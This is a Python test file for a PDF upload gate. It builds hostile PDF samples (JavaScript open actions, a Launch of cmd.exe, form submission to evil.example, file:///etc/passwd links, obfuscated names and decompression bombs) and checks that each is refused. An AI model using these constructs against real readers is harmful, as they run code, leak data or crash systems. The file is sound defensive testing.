"""Hostile PDF files at the gate: what acts, fetches or carries another file is refused wherever it is."""

import io
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name
from weasyprint import HTML

from cica_portal import uploads
from cica_portal.uploads import pdf, refusals
from tests.cica_portal.test_uploads_office import refusal

SCRIPT = r"<< /S /JavaScript /JS (app.alert\(1\)) >>"
LAUNCH = "<< /S /Launch /F (cmd.exe) >>"
SUBMIT = "<< /S /SubmitForm /F (https://evil.example/) >>"
FILE = "<< /Type /Filespec /F (a.exe) /EF << >> >>"
KEPT = "<< /Kids [<< /Limits [(a) (b)] /Names [(a) %s] >>] >>"


def made(place: str, value: str, *, by_reference: bool = False, in_streams: bool = False) -> bytes:
    """Return a PDF with a value, as PDF writes it, at a place of the file, its page or its drawing."""
    file = pikepdf.new()
    page = file.add_blank_page()
    form = file.make_stream(b"", Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 1, 1]))
    page.Resources = Dictionary(XObject=Dictionary(Fm=form))
    holder = {"file": file.Root, "page": page.obj, "drawn": form}[place.partition(" ")[0]]
    parsed = pikepdf.Object.parse(value.encode())
    holder[place.partition(" ")[2]] = referred(file, parsed) if by_reference else parsed
    stream = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if in_streams else pikepdf.ObjectStreamMode.disable
    file.save(stream, object_stream_mode=mode)
    return stream.getvalue()


def referred(file: pikepdf.Pdf, value):
    """Return a value in which every dictionary and array is an object of its own."""
    kind = getattr(value, "_type_name", "")
    if kind == "dictionary":
        parts = {key: referred(file, value[key]) for key in value.keys()}  # noqa: SIM118 - as in the gate
        return file.make_indirect(Dictionary(parts))
    return file.make_indirect(Array([referred(file, one) for one in value])) if kind == "array" else value


def note(inside: str) -> tuple[str, str]:
    return "page /Annots", f"[<< /Type /Annot /Rect [0 0 9 9] {inside} >>]"


def linked(address: str) -> tuple[str, str]:
    return note(f"/Subtype /Link /A << /S /URI /URI ({address}) >>")


HOSTILE = {
    "opening runs a script": ("file /OpenAction", SCRIPT, pdf.BY_ITSELF),
    "opening starts a program": ("file /OpenAction", LAUNCH, pdf.BY_ITSELF),
    "opening sends a form": ("file /OpenAction", SUBMIT, pdf.BY_ITSELF),
    "opening goes to the web": ("file /OpenAction", "<< /S /URI /URI (https://a.example/) >>", pdf.BY_ITSELF),
    "opening prints": ("file /OpenAction", "<< /S /Named /N /Print >>", pdf.BY_ITSELF),
    "opening goes on": ("file /OpenAction", f"<< /S /GoTo /D (a) /Next {SCRIPT} >>", pdf.BY_ITSELF),
    "a page opens": ("page /AA", f"<< /O {SCRIPT} >>", pdf.BY_ITSELF),
    "the file closes": ("file /AA", "<< /WC << /S /Named >> >>", pdf.BY_ITSELF),
    "a click runs a script": (*note(f"/A {SCRIPT}"), pdf.SCRIPT),
    "a click starts a program": (*note(f"/A {LAUNCH}"), pdf.PROGRAM),
    "a click sends a form": (*note(f"/A {SUBMIT}"), pdf.SENDING),
    "a click fetches data": (*note("/A << /S /ImportData /F (a.fdf) >>"), pdf.SENDING),
    "a click opens another file": (*note("/A << /S /GoToR /F (b.pdf) /D (a) >>"), pdf.OTHER_FILE),
    "a click opens an attached file": (*note("/A << /S /GoToE /D (a) >>"), pdf.OTHER_FILE),
    "after a link comes a script": (
        *note("/A << /S /URI /URI (https://a.example/) /Next [<< /S /JavaScript >>] >>"),
        pdf.SCRIPT,
    ),
    "a link leads to a disk": (*linked("file:///etc/passwd"), pdf.BEYOND),
    "a link leads to a host": (*linked(r"\\\\evil.example\\share"), pdf.BEYOND),
    "a link is a script": (*linked("JavaScript:alert"), pdf.BEYOND),
    "scripts by name": ("file /Names", f"<< /JavaScript {KEPT % SCRIPT} >>", pdf.SCRIPT),
    "files by name": ("file /Names", f"<< /EmbeddedFiles {KEPT % FILE} >>", pdf.ATTACHED),
    "a file beside the text": (*note(f"/Subtype /FileAttachment /FS {FILE}"), pdf.ATTACHED),
    "associated files": ("file /AF", f"[{FILE}]", pdf.ATTACHED),
    "a portfolio": ("file /Collection", "<< >>", pdf.ATTACHED),
    "a file that is named": (*note("/FS << /Type /Filespec /F (b.pdf) >>"), pdf.OTHER_FILE),
    "a form of scripts": ("file /AcroForm", "<< /Fields [] /XFA (<x/>) >>", pdf.SCRIPT),
    "a field of a form": (
        "file /AcroForm",
        f"<< /Fields [<< /T (a) /Kids [<< /A {SUBMIT} >>] >>] >>",
        pdf.SENDING,
    ),
    "a bookmark": ("file /Outlines", f"<< /First << /A {LAUNCH} >> >>", pdf.PROGRAM),
    "media": (*note("/Subtype /RichMedia"), pdf.MEDIA),
    "a screen": (*note("/Subtype /Screen"), pdf.MEDIA),
    "a film": (*note("/A << /S /Rendition >>"), pdf.MEDIA),
    "a page of another file": ("drawn /Ref", "<< /Page 0 >>", pdf.OTHER_FILE),
    "data in another file": ("drawn /F", "(http://evil.example/a)", pdf.OTHER_FILE),
    "a picture for the printer": (
        "drawn /OPI",
        "<< /2.0 << /F (http://evil.example/a) >> >>",
        pdf.OTHER_FILE,
    ),
    "a click hides a note": (*note("/A << /S /Hide /T (a) >>"), pdf.CHANGING),
    "a click empties a form": (*note("/A << /S /ResetForm >>"), pdf.CHANGING),
    "a click turns a layer off": (*note("/A << /S /SetOCGState /State [/OFF] >>"), pdf.CHANGING),
}


@pytest.mark.parametrize("in_streams", [False, True], ids=["plain", "in object streams"])
@pytest.mark.parametrize("by_reference", [False, True], ids=["inline", "by reference"])
@pytest.mark.parametrize(("place", "value", "reason"), HOSTILE.values(), ids=HOSTILE)
def test_what_acts_is_refused_with_the_reason_wherever_it_stands(
    place, value, reason, by_reference, in_streams
):
    content = made(place, value, by_reference=by_reference, in_streams=in_streams)

    with pytest.raises(refusals.ActivePdf) as refused:
        uploads.kind_of(content)

    assert str(refused.value) == f"The PDF contains {reason}. Print it to a plain PDF, and upload that file."


@pytest.mark.parametrize(
    ("place", "value"),
    [
        ("file /OpenAction", "[0 /Fit]"),
        ("file /OpenAction", "<< /S /GoTo /D (first) >>"),
        linked("https://www.s-cica.org/page/about/"),
        linked("mailto:secretariat@example.org"),
        note("/Subtype /Link /A << /S /GoTo /D (first) >>"),
        note("/Subtype /Link /Dest [0 /Fit]"),
        ("file /AcroForm", "<< /Fields [] /SigFlags 3 >>"),
    ],
)
@pytest.mark.parametrize("by_reference", [False, True], ids=["inline", "by reference"])
def test_what_only_shows_or_wants_a_click_passes(place, value, by_reference):
    assert uploads.kind_of(made(place, value, by_reference=by_reference, in_streams=True)) == "pdf"


def test_a_printed_page_with_links_and_bookmarks_passes():
    page = '<h1 id="a">Text</h1><p><a href="https://www.example.org/">web</a> <a href="#a">here</a></p>'

    assert uploads.kind_of(HTML(string=page).write_pdf()) == "pdf"


def test_a_name_spelt_otherwise_is_the_same_name():
    content = made(*note(f"/A {SCRIPT}"))
    assert b"/JavaScript" in content

    with pytest.raises(refusals.ActivePdf):
        uploads.kind_of(content.replace(b"/JavaScript", b"/J#61vaScrip#74").replace(b"/JS", b"/J#53"))


def test_a_script_in_a_compressed_stream_of_objects_is_out_of_sight_but_found():
    content = made(*note(f"/A {SCRIPT}"), by_reference=True, in_streams=True)

    assert b"JavaScript" not in content
    with pytest.raises(refusals.ActivePdf):
        uploads.kind_of(content)


def test_a_pdf_that_opens_without_its_password_is_still_locked():
    file = pikepdf.new()
    file.add_blank_page()
    stream = io.BytesIO()
    file.save(stream, encryption=pikepdf.Encryption(user="", owner="secret"))

    with pytest.raises(refusals.Locked):
        uploads.kind_of(stream.getvalue())


@pytest.mark.parametrize("usual", ["<< /OFF [<< /Type /OCG /Name (x) >>] >>", "<< /OFF [] >>"])
def test_layers_pass(usual):
    assert uploads.kind_of(made("file /OCProperties", f"<< /OCGs [] /D {usual} >>")) == "pdf"


# Bombs --------------------------------------------------------------------------------------------------
def bomb(kind: str, size: int, filters: str = "/FlateDecode", times: int = 1) -> bytes:
    """Return a PDF with a stream that a reader unpacks on opening it, to `size` bytes."""
    packed = bytes(size)
    for _time in range(times):
        packed = zlib.compress(packed, 9)
    plain = io.BytesIO()
    file = pikepdf.new()
    file.add_blank_page()
    file.save(plain, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    head = f"\n99 0 obj\n<< /Type /{kind} /N 1 /First 4 /Filter {filters} /Length {len(packed)} >>\nstream\n"
    return plain.getvalue() + head.encode() + packed + b"\nendstream\nendobj\n"


@pytest.mark.parametrize("kind", ["ObjStm", "XRef", "Obj#53tm"])
def test_a_stream_of_objects_is_not_unpacked_without_end(kind):
    content = bomb(kind, uploads.LIMITS.unpacked + 1)

    assert len(content) < 500_000
    assert type(refusal(content)) is refusals.UnpacksTooLarge


def test_what_many_streams_unpack_to_is_counted_together():
    third = bomb("ObjStm", uploads.LIMITS.unpacked // 3 + 1)
    assert type(refusal(third + third[third.index(b"\n99 0 obj") :] * 2)) is refusals.UnpacksTooLarge


@pytest.mark.parametrize("filters", ["[/FlateDecode /FlateDecode]", "[/Fl /Fl] /X (obj)"])
def test_a_stream_of_objects_that_is_packed_twice_is_refused(filters):
    content = bomb("ObjStm", 50_000_000, filters, times=2)
    assert type(refusal(content)) is refusals.DamagedPdf


@pytest.mark.parametrize("filters", ["/LZWDecode", "[/ASCIIHexDecode /FlateDecode]", "/RunLengthDecode"])
def test_a_stream_of_objects_that_is_packed_otherwise_is_refused(filters):
    assert type(refusal(bomb("ObjStm", 1_000, filters))) is refusals.DamagedPdf


def test_a_stream_whose_kind_is_out_of_sight_is_counted_as_one_that_is_opened():
    content = bomb("ObjStm", uploads.LIMITS.unpacked + 1, "/FlateDecode" + " " * pdf.HEAD)
    assert type(refusal(content)) is refusals.UnpacksTooLarge


def test_a_picture_that_unpacks_to_much_is_no_bomb():
    assert uploads.kind_of(bomb("XObject", uploads.LIMITS.unpacked + 1)) == "pdf"
